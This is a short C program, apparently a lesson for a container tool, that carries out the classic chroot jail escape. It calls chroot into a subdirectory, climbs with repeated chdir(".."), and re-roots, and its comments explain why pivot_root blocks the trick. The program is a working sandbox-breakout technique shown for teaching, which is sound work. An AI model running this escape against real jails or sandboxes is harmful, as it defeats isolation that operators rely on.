/* escape.c: the classic chroot escape, for `containy lesson filesystem`.
 *
 * chroot(2) changes where "/" points for path lookups, and nothing else: the current directory stays where
 * it was. So a process that may call chroot (CAP_SYS_CHROOT) makes a new, deeper root, is then *outside* it,
 * and ".." from outside the root is never stopped by the kernel: it climbs to the real root of the mount
 * namespace. chroot(".") there makes that the root again. After pivot_root(2) (what containy does) the old
 * root is unmounted: the top of the mount tree is the container's root, and ".." from it stays put.
 *
 * Built static (cc -static) so it runs in any root filesystem. Prints each step, then what "/" is now.
 */
#include <dirent.h>
#include <errno.h>
#include <stdio.h>
#include <string.h>
#include <sys/stat.h>
#include <unistd.h>

static int step(const char *what, int result) {
    printf("  %-32s %s\n", what, result == 0 ? "ok" : strerror(errno));
    return result;
}

int main(void) {
    struct stat root;
    DIR *dir;
    struct dirent *entry;
    int i;

    setvbuf(stdout, NULL, _IOLBF, 0);
    printf("escape: trying the chroot escape\n");
    mkdir("/tmp", 0755);
    if (mkdir("/tmp/escape-jail", 0755) != 0 && errno != EEXIST)
        step("mkdir(\"/tmp/escape-jail\")", -1);
    if (step("chroot(\"/tmp/escape-jail\")", chroot("/tmp/escape-jail")) != 0)
        return 1;
    /* The current directory is still the old root: now outside the new one. */
    for (i = 0; i < 64; i++)
        chdir("..");
    printf("  %-32s done\n", "chdir(\"..\") x 64");
    if (step("chroot(\".\")", chroot(".")) != 0)
        return 1;
    chdir("/");

    if (stat("/", &root) != 0) {
        perror("stat /");
        return 1;
    }
    printf("escape: now / is device %lu inode %lu and holds:", (unsigned long)root.st_dev, (unsigned long)root.st_ino);
    dir = opendir("/");
    while (dir && (entry = readdir(dir)) != NULL)
        if (entry->d_name[0] != '.')
            printf(" %s", entry->d_name);
    printf("\n");
    return 0;
}
